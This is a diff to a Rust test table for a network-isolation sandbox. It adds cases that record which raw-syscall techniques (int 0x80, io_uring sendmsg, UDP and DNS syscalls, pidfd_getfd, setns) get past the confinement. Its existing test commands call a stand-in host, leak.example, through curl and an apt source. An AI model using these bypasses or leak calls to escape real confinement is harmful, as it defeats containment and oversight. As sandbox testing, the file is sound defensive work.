@@ -13,7 +13,7 @@ use std::os::fd::AsRawFd;
 use std::path::PathBuf;
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
-use uwt_tests::bed::has;
+use uwt_tests::bed::{USER, has};
 use uwt_tests::run::Run;
 
 #[derive(Clone, Copy, PartialEq, Eq, Debug)]
@@ -153,7 +153,20 @@ const ROWS: &[Row] = &[
     ),
     row("io_uring connect by syscall()", "uring_syscall", Refused),
     row("io_uring connect by raw system calls", "uring_asm", Escapes),
+    row("connect by int 0x80", "int80_connect", Escapes),
+    row(
+        "io_uring sendmsg by raw system calls",
+        "uring_sendmsg_asm",
+        Escapes,
+    ),
     // UDP and the rest
+    row("UDP sendto by a raw system call", "udp_asm", Escapes),
+    row(
+        "UDP sendmmsg by a raw system call",
+        "udp_sendmmsg_asm",
+        Escapes,
+    ),
+    row("DNS by raw system calls", "dns_asm", Escapes),
     row("UDP sendto", "udp_sendto", Refused),
     row("UDP sendto, IPv6", "udp_sendto6", Refused),
     row("UDP sendmsg", "udp_sendmsg", Refused),
@@ -338,6 +351,18 @@ const ROWS: &[Row] = &[
         "pidfd_getfd_other",
         With::Passed,
         Refused,
+    ),
+    with(
+        "somebody's socket by pidfd_getfd, raw system calls",
+        "pidfd_getfd_asm",
+        With::Passed,
+        Escapes,
+    ),
+    with(
+        "setns to somebody's network, raw system calls",
+        "setns_asm",
+        With::Passed,
+        Escapes,
     ),
     // programs
     row("curl", "$ curl -sS -m 9 http://leak.example/", Carried),
@@ -547,9 +572,16 @@ fn words(world: &World, row: &Row, level: Level) -> Result<Vec<String>> {
     }
     match words[0].as_str() {
         "apt-get" => {
-            std::fs::create_dir_all(world.bed.path("work/sources"))?;
-            std::fs::create_dir_all(world.bed.path("work/state/lists/partial"))?;
-            std::fs::create_dir_all(world.bed.path("work/cache/archives/partial"))?;
+            for folder in ["sources", "state/lists/partial", "cache/archives/partial"] {
+                std::fs::create_dir_all(world.bed.path("work").join(folder))?;
+            }
+            if level == Level::NetnsUser {
+                let run = world.bed.run("chown").args(["-R", &USER.to_string()]);
+                let run = run
+                    .arg(world.bed.path("work/state"))
+                    .arg(world.bed.path("work/cache"));
+                run.run()?;
+            }
             std::fs::write(
                 world.bed.path("work/sources/x.list"),
                 "deb [trusted=yes] http://leak.example/debian ./\n",
@@ -561,6 +593,9 @@ fn words(world: &World, row: &Row, level: Level) -> Result<Vec<String>> {
             std::fs::DirBuilder::new().mode(0o700).create(&home)?;
             // Its own resolver knows UDP only, which Tor does not carry.
             std::fs::write(home.join("dirmngr.conf"), "standard-resolver\nno-use-tor\n")?;
+            if level == Level::NetnsUser {
+                std::os::unix::fs::chown(&home, Some(USER), Some(USER))?;
+            }
         }
         _ => {}
     }
